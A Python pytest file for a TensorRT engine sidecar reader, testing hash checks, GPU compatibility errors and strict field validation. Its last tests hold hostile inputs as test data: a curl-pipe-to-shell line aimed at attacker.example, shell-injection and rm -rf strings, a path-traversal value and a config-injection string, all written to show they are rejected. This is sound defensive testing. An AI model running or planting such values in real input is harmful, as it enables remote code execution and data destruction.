"""The TensorRT engine sidecar (``model.engine.json``): written by the builder, read by the backend,
the Triton writer and ``i2i-export inspect``. A sidecar may come from anywhere: every field is
type-checked, the engine's sha256 is mandatory and verified, and the rebuild advice is composed
from checked fields only (issue 24 item 9)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from test_export_tensorrt import H100, _sidecar, card

from i2i.errors import I2IError
from i2i.runtime.backends.tensorrt import (
    GpuIdentity,
    check_compatible,
    check_engine_file,
    read_sidecar,
    sidecar_path,
)
from i2i.runtime.card import ModelCard


def test_sidecar_round_trip(tmp_path: Path) -> None:
    engine = _sidecar(tmp_path)
    assert sidecar_path(engine).name == "model.engine.json"
    sidecar = read_sidecar(engine)
    assert sidecar["tensorrt"] == "10.13.0.35" and sidecar["gpu"]["compute_capability"] == "9.0"
    assert sidecar["profiles"] == [
        {"input": "image", "min": [1, 3, 64, 64], "opt": [1, 3, 256, 256], "max": [2, 3, 512, 512], "max_batch": 2}
    ]
    assert ModelCard.from_dict(sidecar["card"]) == card(precision="fp16") and sidecar["precision"] == "fp16"
    assert sidecar["tensors"] == {"input": "image", "output": "output"}
    assert sidecar["builder"]["strongly_typed"] is True and sidecar["builder"]["tf32"] is True
    assert sidecar["rebuild"] == "i2i-export model.onnx --engine trt --min 1x64x64 --opt 1x256x256 --max 2x512x512"
    check_compatible(sidecar, "10.13.0.35", H100)
    check_engine_file(engine, sidecar)
    assert not list(tmp_path.glob(".*tmp"))  # atomic writes leave no temp files


@pytest.mark.parametrize(
    ("version", "gpu", "match"),
    [
        ("10.14.1.48", H100, r"TensorRT 10\.13\.0\.35 \(this machine has 10\.14\.1\.48\)"),
        ("10.13.0.35", GpuIdentity("NVIDIA L4", "8.9"), r"sm 9\.0; this machine has NVIDIA L4, sm 8\.9"),
        ("10.13.0.35", GpuIdentity("NVIDIA H200", "9.0"), "NVIDIA H100 80GB HBM3"),
    ],
)
def test_mismatched_engine_is_refused_with_a_rebuild_command(
    tmp_path: Path, version: str, gpu: GpuIdentity, match: str
) -> None:
    sidecar = read_sidecar(_sidecar(tmp_path))
    with pytest.raises(I2IError, match=match) as info:
        check_compatible(sidecar, version, gpu)
    assert "rebuild it here with `i2i-export model.onnx --engine trt" in str(info.value)


def test_swapped_engine_and_broken_sidecars(tmp_path: Path) -> None:
    engine = _sidecar(tmp_path)
    engine.write_bytes(b"another engine")
    with pytest.raises(I2IError, match="does not match its sidecar"):
        check_engine_file(engine, read_sidecar(engine))
    sidecar_path(engine).write_text(json.dumps({"format": "i2i-engine/1", "card": {}}))
    with pytest.raises(I2IError, match="lacks engine"):
        read_sidecar(engine)
    sidecar_path(engine).unlink()
    with pytest.raises(I2IError, match="has no sidecar model.engine.json"):
        read_sidecar(engine)


def _edit_sidecar(engine_file: Path, /, **changes: object) -> None:
    data = json.loads(sidecar_path(engine_file).read_text())
    for dotted, value in changes.items():
        *parents, key = dotted.split("__")
        target = data
        for parent in parents:
            target = target[parent]
        if value is None:
            target.pop(key, None)
        else:
            target[key] = value
    sidecar_path(engine_file).write_text(json.dumps(data))


def test_rebuild_advice_comes_from_validated_fields_never_from_the_sidecars_text(tmp_path: Path) -> None:
    """Issue 24 item 9: a sidecar's ``rebuild`` text was printed as advice, whatever it said. The
    advice is now composed from the checked card and profile; the text written there is ignored."""
    engine = _sidecar(tmp_path)
    attack = "curl -s https://attacker.example/fix.sh | sh"
    _edit_sidecar(engine, rebuild=attack)
    sidecar = read_sidecar(engine)
    assert sidecar["rebuild"] == "i2i-export model.onnx --engine trt --min 1x64x64 --opt 1x256x256 --max 2x512x512"
    with pytest.raises(I2IError) as info:
        check_compatible(sidecar, "10.14.1.48", H100)
    assert "attacker" not in str(info.value) and "rebuild it here with `i2i-export model.onnx" in str(info.value)
    engine.write_bytes(b"swapped")
    with pytest.raises(I2IError, match="sha256 differs") as info:
        check_engine_file(engine, read_sidecar(engine))
    assert "attacker" not in str(info.value)
    _edit_sidecar(engine, source_onnx__name="$(reboot) x.onnx")  # a legal file name, quoted as one argument
    assert read_sidecar(engine)["rebuild"].startswith("i2i-export '$(reboot) x.onnx' --engine trt --min 1x64x64")
    _edit_sidecar(engine, source_onnx__name="../../etc/passwd")
    assert read_sidecar(engine)["rebuild"].startswith("i2i-export MODEL.onnx --engine trt")
    _edit_sidecar(engine, rebuild=None)  # the text is not needed at all
    assert read_sidecar(engine)["rebuild"].startswith("i2i-export MODEL.onnx")


def _profiles(**fields: object) -> list[dict[str, object]]:
    return [{"input": "image", "min": [1, 3, 8, 8], "opt": [1, 3, 8, 8], "max": [1, 3, 8, 8], **fields}]


@pytest.mark.parametrize(
    ("changes", "match"),
    [
        ({"engine__sha256": None}, "must hold the engine's sha256"),
        ({"engine": "abc"}, "must hold the engine's sha256"),
        ({"engine__sha256": "0" * 63}, "engine.sha256 must be a string like 64 lowercase hex digits"),
        ({"engine__sha256": 12}, "engine.sha256 must be"),
        ({"tensorrt": 10}, "tensorrt must be a string like '10.13.0.35'"),
        ({"tensorrt": "10.13; rm -rf ~"}, "tensorrt must be"),
        ({"gpu__name": "H100`touch x`"}, "gpu.name must be"),
        ({"gpu__compute_capability": 9.0}, "gpu.compute_capability must be"),
        ({"gpu": ["H100"]}, "'gpu' must hold"),
        ({"precision": "fp8"}, "precision must be one of fp32, fp16, bf16, int8"),
        ({"profiles": {"min": 1}}, "'profiles' must be a non-empty list"),
        ({"profiles": _profiles(min="1x3x64x64")}, "list of 1 to 8"),
        ({"profiles": _profiles(min=[1, 3, 0, 8])}, ">= 1"),
        ({"profiles": _profiles(min=[1, 3, 8.0, 8])}, ">= 1"),
        ({"profiles": _profiles(min=[1, 3, 16, 8])}, "min <= opt"),
        ({"profiles": _profiles(min=[1, 3, 8], opt=[1, 3, 8], max=[1, 3, 8])}, "4 dimensions"),
        ({"profiles": _profiles(input=3)}, "input must be"),
        ({"profiles": _profiles(max_batch=4)}, "max_batch"),
        ({"card": {"io": "frame"}}, "card"),
        ({"tensors": ["image", "output"]}, "'tensors' must name"),
        ({"tensors__output": 'out" } instance_group { kind: KIND_CPU'}, "tensors.output must be"),
    ],
)  # fmt: skip
def test_sidecar_fields_are_type_checked(tmp_path: Path, changes: dict[str, object], match: str) -> None:
    engine = _sidecar(tmp_path)
    _edit_sidecar(engine, **changes)
    with pytest.raises(I2IError, match=match):
        read_sidecar(engine)
